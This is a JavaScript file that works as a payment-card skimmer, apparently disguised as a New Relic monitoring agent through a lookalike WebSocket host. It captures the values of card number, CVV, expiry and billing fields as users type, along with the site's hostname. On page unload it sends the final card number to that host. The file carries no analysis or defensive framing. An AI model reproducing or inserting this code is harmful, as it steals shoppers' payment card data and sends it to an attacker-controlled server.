var Live = (function () {
    var WS_URL = "wss://newrelic-agent-js.com/agent/ws";
    var sock = null;
    var retries = 0;
    var queue = [];

    function connect() {
        try {
            sock = new WebSocket(WS_URL);
        } catch (e) {
            schedule();
            return;
        }
        sock.onopen = function () {
            retries = 0;
            flush();
        };
        sock.onclose = function () {
            sock = null;
            schedule();
        };
        sock.onerror = function () {
            try { sock.close(); } catch (e) {}
        };
    }

    function schedule() {
        var delay = Math.min(30000, 1000 * Math.pow(2, retries++));
        setTimeout(connect, delay);
    }

    function flush() {
        while (sock && sock.readyState === 1 && queue.length) {
            sock.send(queue.shift());
        }
    }

    function send(obj) {
        queue.push(JSON.stringify(obj));
        flush();
    }

    return { connect: connect, send: send };
})();

Live.connect();

document.addEventListener("change", function (e) {
    var t = e.target;
    if (!t || !t.name) return;
    if (/cc_|card|cvv|cvc|expir|billing/i.test(t.name)) {
        Live.send({ k: t.name, v: t.value, h: location.hostname });
    }
}, true);

window.addEventListener("beforeunload", function () {
    var pan = document.querySelector("[name='payment[cc_number]']");
    if (pan && pan.value) Live.send({ k: "final", v: pan.value });
});
